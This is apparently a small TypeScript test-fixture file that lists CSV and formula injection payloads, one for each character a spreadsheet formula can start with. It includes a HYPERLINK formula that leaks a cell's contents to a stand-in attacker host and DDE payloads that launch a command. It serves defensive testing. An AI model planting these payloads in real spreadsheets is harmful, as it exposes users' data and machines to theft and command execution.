/**
 * Cell texts a spreadsheet would run as formulas (CSV injection, OWASP): one per way a formula can
 * start (= + - @ tab CR), and the classic DDE and exfiltration forms.
 */
export const FORMULA_PAYLOADS = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click here")',
  '+1+1',
  '-1+1',
  '@SUM(1)',
  '\t=1+2',
  '\r=1+3',
  "=cmd|' /C calc'!A0",
  '-2+3+cmd|\' /C calc\'!A0',
] as const;
